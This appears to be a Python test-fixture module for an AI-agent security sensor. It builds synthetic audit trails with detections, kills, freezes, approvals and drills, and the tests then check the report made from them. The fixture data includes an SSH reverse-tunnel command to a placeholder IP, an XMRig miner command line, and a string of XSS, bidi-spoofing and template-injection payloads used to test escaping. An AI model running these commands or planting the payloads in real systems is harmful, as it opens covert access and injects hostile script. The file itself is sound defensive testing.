"""Trails to report from, written by the real writer at times that the test sets."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from sensor.agents_file import AgentFile, Match, Owner
from sensor.events import parse_rfc3339, rfc3339
from sensor.record.audit import layout, line
from sensor.record.audit.note import parse_public_key
from sensor.record.audit.trail import Audit
from sensor.record.report.gather import gather, make_report
from sensor.record.report.model import Report

DAY_S = 86_400.0
NOW = parse_rfc3339("2026-06-30T12:00:00Z")
SINCE = parse_rfc3339("2026-05-31T12:00:00Z")
HOSTILE = "</script></style><script>alert(1)</script>\u202egpj.exe\u2066\" onload='x' &amp; \x1b[31m\n{{ 7*7 }}"


class Story:
    """What happens, second by second, to a trail."""

    def __init__(self, audit: Audit) -> None:
        self.audit = audit
        self.now = SINCE
        self.alerts = 0

    def time_ns(self) -> int:
        return self.now

    def at(self, days: float) -> Story:
        """`days` after the period's beginning."""
        self.now = SINCE + round(days * DAY_S * 1e9)
        return self

    def start(self, mode: str = "enforce", host: str = "gpu-7") -> None:
        self.audit.append("start", mode=mode, host=host, pid=1)

    def verdict(self, *, known_ms: float | None = 0.4, level: str = "critical", **more: Any) -> str:
        """An event and its verdict; gives the alert's id."""
        self.alerts += 1
        alert = f"{self.alerts:032x}"[::-1]
        agent, owner = more.pop("agent", "rome-rl"), more.pop("owner", "Ada Example")
        event = {
            "category": "process_creation",
            "time": rfc3339(self.now),
            "ProcessId": 4856,
            "Image": "/usr/bin/ssh",
            "CommandLine": more.pop("command", "/usr/bin/ssh -N -R 0:127.0.0.1:22 root@198.51.100.7"),
            "User": "root",
            "CgroupPath": more.pop("cgroup", "/rome.slice/job"),
            "Agent": agent,
        }
        who = {"alert": alert, "agent": agent, "owner": owner}
        who = {name: value for name, value in who.items() if value is not None}
        self.audit.append("event", **who, event=event)
        rule = {"rule": "r-tunnel", "title": "SSH client asks for a remote forward", "action": "kill"} | more
        self.audit.append("verdict", **who, level=level, **rule, detect_ms=known_ms)
        return alert

    def respond(
        self, *, stopped_ms: float | None = 3.5, outcome: str = "done", action: str = "kill", **more: Any
    ) -> str:
        """A whole response; gives the alert's id."""
        how = {name: more.pop(name) for name in ("mode", "reason", "processes") if name in more}
        alert = self.verdict(**more, action=action)
        who = {"alert": alert, "agent": more.get("agent", "rome-rl"), "owner": more.get("owner", "Ada Example")}
        fields = {"cgroup": "/rome.slice/job", "scope": "cgroup", **how}
        begun = outcome not in ("would", "refused", "denied")
        if begun:
            fields["intent"] = self.audit.append(
                "intent", **who, action=action, scope="cgroup", cgroup="/rome.slice/job"
            )
        self.audit.append("action", **who, action=action, outcome=outcome, respond_ms=stopped_ms, **fields)
        return alert

    def asks(self, case: str = "bidol") -> tuple[str, str]:
        """Frozen until somebody decides, as `sensor.respond.approvals` has it; gives the alert's id and the case's."""
        why = f"case {case}: hostbrake approve {case}, or deny {case}; denied without an answer by 12:15:00 UTC"
        billing = {"rule": "r-billing", "title": "Talks to a billing endpoint"}
        return self.respond(outcome="pending", action="freeze", stopped_ms=2.2, reason=why, **billing), case

    def decides(self, case: str, how: str, outcome: str = "done") -> None:
        """The request, and what is done then: an event, verdict and act of its own."""
        self.audit.append("request", command=how, answer="done", user="ada", uid=1000, arguments={"id": case})
        deed = {
            "reason": f"{'denied' if how == 'deny' else 'approved'} by ada",
            "outcome": outcome,
            "stopped_ms": 7000.0,
        }
        self.respond(action="kill" if how == "deny" else "freeze", known_ms=None, detail=f"case {case}", **deed)

    def drill(self, agent: str, passed: bool = True, known_ms: float = 0.6, stopped_ms: float = 5.0) -> None:
        names = ("reverse tunnel", "miner", "device open", "denied connect", "kill switch")
        for number, name in enumerate(names):
            good = passed or number != 1
            times = {"known_ms": known_ms + number / 10, "stopped_ms": stopped_ms + number} if good else {}
            error = {} if good else {"error": "nothing was seen of it"}
            self.audit.append("drill", agent=agent, behaviour=name, passed=good, limit_ms=1000.0, **times, **error)
        self.audit.append("drill", agent=agent, passed=passed, behaviours=len(names), summary=True)


@contextmanager
def story(state_dir: Path) -> Iterator[Story]:
    """A trail is written while this is open."""
    audit = Audit(state_dir)
    told = Story(audit)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(line, "time", told)
        yield told
        audit.close()
    assert not audit.losses


def declared(*names: str) -> list[AgentFile]:
    owner = Owner("Ada Example", ["mailto:ada@example.org"])
    return [AgentFile(agent=name, purpose="p", owner=owner, match=[Match(cgroup=f"/{name}")]) for name in names]


def report_of(
    state_dir: Path, agents: list[AgentFile] | None = None, since: int = SINCE, until: int = NOW
) -> tuple[Report, list[float], list[float]]:
    """The report, and all times to know and to stop."""
    directory = state_dir / layout.AUDIT_DIR
    key = directory / layout.PUBLIC_KEY
    keys = [parse_public_key(key.read_text())] if key.exists() else []
    gathered, trail = gather(directory, keys, [], since, until)
    made = make_report(gathered, trail, agents=agents or [], agent_faults=[], since=since, until=until)
    return made, *gathered.tally.measurements()


RULES = (
    {"rule": "r-tunnel", "title": "SSH client asks for a remote forward"},
    {"rule": "r-miner", "title": "Program of the XMRig family", "command": "/tmp/.x/xmrig -o pool.example:3333"},
    {"rule": "r-gpu", "title": "GPU opened without a grant", "command": "python train.py --gpu 0"},
)
OWNERS = {"rome-rl": "Ada Example", "evals": "Bo Example", "crawler": "Cy Example"}


def eventful(told: Story) -> None:
    """A month of a node with three agents: what went well, and what did not."""
    chance = random.Random(7)
    happens: list[tuple[float, Callable[[], object]]] = [
        (0, told.start),
        (0.01, partial(told.drill, "rome-rl")),
        (
            12,
            partial(told.respond, outcome="refused", stopped_ms=None, reason="a node service", agent=None, owner=None),
        ),
        (18.2, partial(_fails, told)),
        (21, partial(_asks, told)),
        (22, partial(told.respond, outcome="would", stopped_ms=None, mode="monitor", **_whose("crawler"))),
        (23, partial(told.audit.append, "stop", pid=1)),
        (24.2, told.start),
        (24.3, partial(told.audit.append, "loss", what="lost", lost={"kernel.exec: the ring was full": 12})),
        (25, partial(told.drill, "evals", passed=False)),
        (29.5, partial(told.drill, "rome-rl")),
    ]
    for day in (4.3, 9.1, 9.2, 17.7):
        limits = {"rule": "r-limits", "title": "Destination outside the agent's limits"}
        happens.append((day, partial(told.respond, action="deny", stopped_ms=0.0, **limits, **_whose("crawler"))))
    for number in range(220):
        stopped = chance.lognormvariate(1.4, 0.7)
        times = {
            "stopped_ms": round(stopped, 3),
            "known_ms": round(min(stopped * 0.7, chance.lognormvariate(-0.9, 0.5)), 3),
        }
        who, rule = _whose(chance.choice(list(OWNERS))), chance.choice(RULES)
        many = chance.randint(1, 40)
        happens.append(
            (0.2 + number * 0.1 + 7 * (number > 200), partial(told.respond, **times, **who, processes=many, **rule))
        )
    for day, happen in sorted(happens, key=lambda one: one[0]):
        told.at(day)
        happen()


def _whose(agent: str) -> dict[str, str]:
    return {"agent": agent, "owner": OWNERS[agent]}


def _fails(told: Story) -> None:
    why = "2 processes are in uninterruptible sleep"
    told.respond(outcome="failed", stopped_ms=None, reason=why, **_whose("evals"))


def _asks(told: Story) -> None:
    asked, case = told.asks()
    told.audit.append("notification", what="sent", to="owner of rome-rl", incidents=[asked[:10]])
    told.now += 300 * 10**9
    told.decides(case, "deny")
